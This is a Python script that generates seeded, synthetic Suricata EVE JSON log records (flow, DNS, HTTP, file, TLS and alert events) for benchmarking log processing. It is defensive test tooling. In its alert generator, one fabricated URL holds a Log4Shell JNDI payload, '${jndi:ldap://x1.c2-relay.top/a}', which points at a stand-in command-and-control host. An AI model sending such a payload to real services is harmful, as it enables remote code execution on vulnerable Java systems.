#!/usr/bin/env python3
"""Generate seeded, realistic Suricata EVE JSON for benchmarks.

  gen_eve.py mixed N OUT   ~80% flow, 8% dns, 5% http, 4.5% fileinfo, 1% tls, 1.5% alert (~640 B)
  gen_eve.py alerts N OUT  alerts only, with flow/http/metadata blocks as Suricata 8 writes them (~1.1 KB)

Field shapes follow Suricata 8.0 EVE output (see tests/data/eve/ for real samples).
"""
import json
import random
import sys

SIGS = [
    (2019401, 3, "ET POLICY Vulnerable Java Version 1.8.x Detected", "Potential Corporate Privacy Violation", 1),
    (2027865, 2, "ET INFO Observed DNS Query to .cloud TLD", "Potentially Bad Traffic", 2),
    (2013028, 7, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 2),
    (2210044, 2, "SURICATA STREAM Packet with invalid timestamp", "Generic Protocol Command Decode", 3),
    (2024897, 4, "ET USER_AGENTS Go HTTP Client User-Agent", "Misc activity", 3),
    (2030092, 1, "ET EXPLOIT Possible Apache log4j RCE Attempt (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1),
    (2001219, 20, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2),
    (2100498, 7, "GPL ATTACK_RESPONSE id check returned root", "Potentially Bad Traffic", 2),
]
DOMAINS = ["www.example.com", "api.github.com", "updates.vendor.net", "cdn.jsdelivr.net", "login.microsoftonline.com",
           "telemetry.acme.cloud", "s3.amazonaws.com", "time.cloudflare.com", "mirror.debian.org", "x1.c2-relay.top"]
UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
       "curl/8.5.0", "Go-http-client/1.1", "python-requests/2.31.0", "Debian APT-HTTP/1.3 (2.6.1)"]


def ts(t):
    sec = int(t)
    us = int((t - sec) * 1e6)
    import time as _t
    g = _t.gmtime(sec)
    return "%04d-%02d-%02dT%02d:%02d:%02d.%06d+0000" % (g.tm_year, g.tm_mon, g.tm_mday, g.tm_hour, g.tm_min, g.tm_sec, us)


def ip(r, internal):
    if internal:
        return "10.%d.%d.%d" % (r.randrange(0, 8), r.randrange(0, 256), r.randrange(1, 255))
    return "%d.%d.%d.%d" % (r.choice([23, 34, 52, 104, 142, 151, 185, 203]), r.randrange(256), r.randrange(256), r.randrange(1, 255))


def base(r, t, etype, proto="TCP"):
    src, dst = ip(r, True), ip(r, False)
    return {
        "timestamp": ts(t), "flow_id": r.randrange(1, 1 << 51), "in_iface": "eth0", "event_type": etype,
        "src_ip": src, "src_port": r.randrange(1024, 65535), "dest_ip": dst,
        "dest_port": r.choice([80, 443, 53, 22, 8080, 25]), "proto": proto,
    }


def flow(r, t):
    e = base(r, t, "flow", r.choice(["TCP", "TCP", "UDP"]))
    e["app_proto"] = r.choice(["http", "tls", "dns", "failed", "ssh"])
    start = t - r.random() * 30
    e["flow"] = {"pkts_toserver": r.randrange(1, 5000), "pkts_toclient": r.randrange(1, 5000),
                 "bytes_toserver": r.randrange(60, 10 ** 7), "bytes_toclient": r.randrange(60, 10 ** 7),
                 "start": ts(start), "end": ts(t), "age": int(t - start), "state": "closed", "reason": "timeout",
                 "alerted": False}
    e["community_id"] = "1:" + "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(27)) + "="
    e["tcp"] = {"tcp_flags": "1b", "tcp_flags_ts": "1b", "tcp_flags_tc": "1b", "syn": True, "fin": True, "psh": True, "ack": True, "state": "closed", "ts_max_regions": 1, "tc_max_regions": 1}
    return e


def dns(r, t):
    e = base(r, t, "dns", "UDP")
    e["dest_port"] = 53
    name = r.choice(DOMAINS)
    if r.random() < 0.5:
        e["dns"] = {"version": 3, "type": "request", "tx_id": 0, "id": r.randrange(65536), "flags": "100", "rd": True,
                    "opcode": 0, "rcode": "NOERROR", "queries": [{"rrname": name, "rrtype": "A"}]}
    else:
        e["dns"] = {"version": 3, "type": "response", "tx_id": 1, "id": r.randrange(65536), "flags": "8180", "qr": True,
                    "rd": True, "ra": True, "opcode": 0, "rcode": "NOERROR", "queries": [{"rrname": name, "rrtype": "A"}],
                    "answers": [{"rrname": name, "rrtype": "A", "ttl": r.randrange(30, 3600), "rdata": ip(r, False)} for _ in range(r.randrange(1, 4))]}
    return e


def http(r, t):
    e = base(r, t, "http")
    e["app_proto"] = "http"
    e["tx_id"] = r.randrange(0, 5)
    e["http"] = {"hostname": r.choice(DOMAINS), "url": "/" + "/".join(r.choice(["api", "v1", "static", "img", "index.html", "update", "check"]) for _ in range(3)),
                 "http_user_agent": r.choice(UAS), "http_content_type": "text/html", "accept": "*/*",
                 "http_method": r.choice(["GET", "POST"]), "protocol": "HTTP/1.1", "status": r.choice([200, 301, 404, 500]),
                 "length": r.randrange(0, 100000)}
    return e


def fileinfo(r, t):
    e = http(r, t)
    e["event_type"] = "fileinfo"
    e["fileinfo"] = {"filename": e["http"]["url"], "gaps": False, "state": "CLOSED",
                     "md5": "%032x" % r.getrandbits(128), "sha256": "%064x" % r.getrandbits(256),
                     "stored": False, "size": r.randrange(0, 10 ** 6), "tx_id": 0}
    return e


def tls(r, t):
    e = base(r, t, "tls")
    e["app_proto"] = "tls"
    sni = r.choice(DOMAINS)
    e["tls"] = {"subject": "CN=" + sni, "issuerdn": "C=US, O=Let's Encrypt, CN=R3", "serial": "04:%02X:1C" % r.randrange(256),
                "fingerprint": ":".join("%02x" % r.randrange(256) for _ in range(20)), "sni": sni, "version": "TLS 1.3",
                "notbefore": "2024-01-01T00:00:00", "notafter": "2025-01-01T00:00:00",
                "ja3": {"hash": "%032x" % r.getrandbits(128), "string": "771,4865-4866-4867,0-23-65281-10-11,29-23-24,0"},
                "ja4": "t13d1516h2_8daaf6152771_b0da82dd1658"}
    return e


def alert(r, t, rich=False):
    e = base(r, t, "alert")
    sid, rev, sig, cat, sev = r.choice(SIGS)
    e["tx_id"] = 0
    e["alert"] = {"action": "allowed", "gid": 1, "signature_id": sid, "rev": rev, "signature": sig, "category": cat, "severity": sev,
                  "metadata": {"affected_product": ["Any"], "attack_target": ["Client_Endpoint"], "created_at": ["2021_12_10"],
                               "deployment": ["Perimeter"], "signature_severity": ["Major"], "updated_at": ["2024_01_05"]}}
    e["app_proto"] = "http"
    if rich:
        e["flow"] = {"pkts_toserver": r.randrange(1, 50), "pkts_toclient": r.randrange(1, 50), "bytes_toserver": r.randrange(60, 50000),
                     "bytes_toclient": r.randrange(60, 50000), "start": ts(t - 1), "src_ip": e["src_ip"], "dest_ip": e["dest_ip"],
                     "src_port": e["src_port"], "dest_port": e["dest_port"]}
        e["http"] = {"hostname": r.choice(DOMAINS), "url": "/${jndi:ldap://x1.c2-relay.top/a}" if sid == 2030092 else "/index.html",
                     "http_user_agent": r.choice(UAS), "http_content_type": "text/html", "http_method": "GET",
                     "protocol": "HTTP/1.1", "status": 200, "length": r.randrange(0, 5000)}
        e["community_id"] = "1:" + "%027x" % r.getrandbits(108) + "="
        e["pkt_src"] = "wire/pcap"
        e["payload_printable"] = "GET /index.html HTTP/1.1\r\nHost: example\r\nUser-Agent: curl/8.5.0\r\n\r\n"
    return e


def main():
    kind, n, out = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    r = random.Random(20261128)
    t = 1_764_300_000.0
    kinds = [(0.80, flow), (0.88, dns), (0.93, http), (0.975, fileinfo), (0.985, tls), (1.0, alert)]
    dumps = json.JSONEncoder(separators=(",", ":"), ensure_ascii=False).encode
    with open(out, "w") as f:
        buf = []
        for i in range(n):
            t += r.random() * 0.002
            if kind == "alerts":
                e = alert(r, t, rich=True)
            else:
                x = r.random()
                e = next(fn for lim, fn in kinds if x < lim)(r, t)
            buf.append(dumps(e))
            if len(buf) >= 10000:
                f.write("\n".join(buf) + "\n")
                buf = []
        if buf:
            f.write("\n".join(buf) + "\n")


if __name__ == "__main__":
    main()
